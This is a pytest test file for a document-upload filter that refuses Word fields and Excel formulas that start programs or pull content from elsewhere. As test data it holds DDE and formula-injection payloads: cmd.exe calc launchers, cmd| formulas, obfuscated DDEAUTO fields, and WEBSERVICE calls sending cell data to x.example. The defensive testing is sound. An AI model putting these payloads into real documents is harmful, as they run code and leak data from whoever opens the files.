"""Fields of Word and formulas of Excel that start a program or fetch from elsewhere are refused, however they are written."""

import zipfile
from io import BytesIO

import pytest
import xlsxwriter

from langnghe.documents.content import check, codes, office
from langnghe.documents.tests.conftest import table
from langnghe.documents.tests.test_office_parts import changed, docx, refused

WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
BEGIN, SEPARATE, END = (
    f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end")
)
CALC = r' c:\\windows\\system32\\cmd.exe "/k calc.exe" '


def says(*pieces: str) -> str:
    return "".join(f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in pieces)


def is_taken(data: bytes) -> bool:
    """Whether it comes through the whole door as it was sent."""
    return check(data).data == data


def field(*pieces: str) -> str:
    return f"{BEGIN}{says(*pieces)}{SEPARATE}<w:r><w:t>x</w:t></w:r>{END}"


def inside(runs: str, alphabet: str = "UTF-8") -> str:
    return f'<?xml version="1.0" encoding="{alphabet}"?><w:document xmlns:w="{WORD}"><w:p>{runs}</w:p></w:document>'


def written(runs: str, part: str = "word/document.xml", alphabet: str = "UTF-8") -> bytes:
    return changed(docx(), **{part: inside(runs, alphabet).encode(alphabet)})


@pytest.mark.parametrize(
    "data",
    [
        written(field(f"DDEAUTO{CALC}")),
        written(field(f" dde{CALC}")),
        written(field("D", "DE", "AU", f"TO{CALC}")),
        written(field(f'"DDEAUTO"{CALC}')),
        written(f"{BEGIN}{says('DDEAUTO' + CALC)}{END}"),
        written(f"{BEGIN}{says(' QUOTE ')}{field('DDEAUTO' + CALC)}{SEPARATE}{END}"),
        written(f"{BEGIN}{says('DDE')}{field(' QUOTE 99 ')}{says(CALC)}{SEPARATE}{END}"),
        written(f"{BEGIN}{field(' QUOTE 68 68 69 ')}{says(CALC)}{SEPARATE}{END}"),
        written(f"{BEGIN}{says(' D')}{field(' QUOTE 68 69 ')}{says(CALC)}{SEPARATE}{END}"),
        written('<w:fldSimple w:instr="DDEAUTO c:\\calc"/>'),
        written('<w:fldSimple w:instr=" &quot;IMPORT&quot; c:\\a.gif"/>'),
        written(field('INCLUDEPICTURE\\d "https://x.example/a.png"')),
        written(says(f"DDEAUTO{CALC}")),
        written(field('INCLUDEPICTURE "https://x.example/a.png" \\d')),
        written(field('INCLUDETEXT "\\\\x.example\\a.docx"')),
        written(field("LINK Excel.Sheet.8 c:\\a.xlsx")),
        written(field("DATABASE \\d c:\\a.mdb")),
        written(field(f"DDEAUTO{CALC}"), part="word/header7.xml"),
        written(field(f"DDEAUTO{CALC}"), part="word/footer1.xml"),
        written(field(f"DDEAUTO{CALC}"), part="word/footnotes.xml"),
        written(field(f"DDEAUTO{CALC}"), part="word/comments.xml"),
        written(field(f"DDEAUTO{CALC}"), part="word/glossary/any.name"),
        written(field(f"DDEAUTO{CALC}"), alphabet="UTF-16"),
    ],
)
def test_a_field_that_reaches_out_is_refused(data: bytes) -> None:
    said = refused(data)
    assert "trường hoặc công thức gọi chương trình khác (DDE)" in said
    assert "Ctrl+Shift+F9" in said
    assert "lưu thành PDF" in said


@pytest.mark.parametrize(
    "code",
    ["PAGE", "TOC \\o 1-3", "HYPERLINK https://example.vn", "DATE", "SEQ DDE", "REF dde", "LINKED x"],
)
def test_fields_that_stay_inside_are_fine(code: str) -> None:
    assert is_taken(written(field(code)))


def test_fields_within_fields_are_fine() -> None:
    """A table of contents holds one field for each of its lines; a condition asks another field."""
    line = f"{BEGIN}{says('TOC')}{SEPARATE}{field('PAGEREF a')}{field('PAGEREF b')}{END}"
    condition = f"{BEGIN}{says('IF ')}{field('MERGEFIELD a')}{says(' = 1 x')}{SEPARATE}{END}"
    assert is_taken(written(line + condition))


def test_a_code_of_many_runs_costs_no_more_than_its_length() -> None:
    """Only the beginning of a code is kept: a million runs of one field are read in the time of a long text."""
    reader = codes._Reader()
    reader.start("fldChar", {"w:fldCharType": "begin"})
    for _run in range(1000):
        reader.start("instrText", {})
        reader.text("x" * 1000)
        reader.end("instrText")
        assert len(reader.open[-1].code) <= codes.KEPT


def test_words_about_it_are_not_it() -> None:
    assert is_taken(written("<w:r><w:t>DDEAUTO, LINK, INCLUDETEXT</w:t></w:r>"))


def sheet(formula: str) -> bytes:
    out = BytesIO()
    book = xlsxwriter.Workbook(out)
    book.add_worksheet().write_formula("A1", formula)
    book.close()
    return out.getvalue()


@pytest.mark.parametrize(
    "formula",
    [
        "=cmd|'/c calc'!A0",
        "='cmd'|'/c calc'!'A0'",
        "=1+MSEXCEL|'..\\a.exe'!x",
        '=_xlfn.WEBSERVICE("https://x.example/?"&A2)',
        '=RTD("a.b",,"c")',
        '=1+_xlfn.IMAGE ("https://x.example/a.png")',
    ],
)
def test_a_formula_that_asks_a_program_is_refused(formula: str) -> None:
    assert "từ nơi khác" in refused(sheet(formula))


def test_a_name_that_stands_for_such_a_formula_is_refused() -> None:
    names = b"<workbook><definedNames><definedName name=\"a\">cmd|'/c calc'!A0</definedName></definedNames></workbook>"
    assert "từ nơi khác" in refused(changed(table(), **{"xl/workbook.xml": names}))


@pytest.mark.parametrize("tag", ["calculatedColumnFormula", "totalsRowFormula", "oldFormula"])
def test_a_formula_of_a_column_is_one_too(tag: str) -> None:
    told = f"<table><tableColumn><{tag}>cmd|'/c calc'!A0</{tag}></tableColumn></table>".encode()
    assert "từ nơi khác" in refused(changed(table(), **{"xl/tables/table1.xml": told}))


@pytest.mark.parametrize(
    ("part", "told"),
    [
        ("word/settings.xml", "<w:mailMerge><w:connectString w:val='Provider=x'/></w:mailMerge>"),
        ("xl/connections.xml", "<connection id='1' refreshOnLoad='1'><webPr url='https://x.example'/></connection>"),
    ],
)  # fmt: skip
def test_rows_that_come_from_elsewhere_on_opening_are_refused(part: str, told: str) -> None:
    assert "từ nơi khác" in refused(changed(docx(), **{part: f"<a xmlns:w='{WORD}'>{told}</a>".encode()}))


def test_a_table_that_is_renewed_from_its_own_workbook_or_by_hand_is_fine() -> None:
    own = b"<pivotCacheDefinition refreshOnLoad='1'><cacheSource type='worksheet'/></pivotCacheDefinition>"
    by_hand = b"<connections><connection id='1'><webPr url='https://x.example'/></connection></connections>"
    assert is_taken(changed(table(), **{"xl/pivotCache/p.xml": own, "xl/connections.xml": by_hand}))


@pytest.mark.parametrize(
    "formula", ['="a|b"&A2', '="WEBSERVICE(1)"', "=SORTD(A1)", "='Thu|Chi'!A1", "=SUM(A2:A9)"]
)
def test_a_bar_in_quotes_is_only_a_bar(formula: str) -> None:
    assert is_taken(sheet(formula))


def test_a_drawing_with_rules_of_its_own_is_fine() -> None:
    drawing = b'<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x"><svg/>'
    assert is_taken(changed(docx(), **{"word/media/image1.svg": drawing}))


def test_a_code_hidden_in_a_rule_of_the_part_is_read_as_word_would() -> None:
    text = f'<!DOCTYPE d [<!ENTITY a "DDEAUTO c:">]><d xmlns:w="{WORD}">{field("&a;")}</d>'
    assert "từ nơi khác" in refused(changed(docx(), **{"word/x.xml": text.encode()}))


def test_a_code_is_found_wherever_the_reading_stops() -> None:
    """What is read at once ends anywhere, also in the middle of the sign that there is a code."""
    before = len(inside("<w:t></w:t>").partition("</w:t>")[0]) + len("</w:t><w:r><w:fldChar w:fldCharType=")
    for ahead in range(-40, 200, 1):
        filling = "x" * (office.CHUNK - before - ahead)
        data = {"a.xml": inside(f"<w:t>{filling}</w:t>{field('DDEAUTO' + CALC)}")}
        assert codes.reaches_out(archive(data), data), ahead


def archive(members: dict[str, str]) -> zipfile.ZipFile:
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as made:
        for name, text in members.items():
            made.writestr(name, text)
    return zipfile.ZipFile(out)
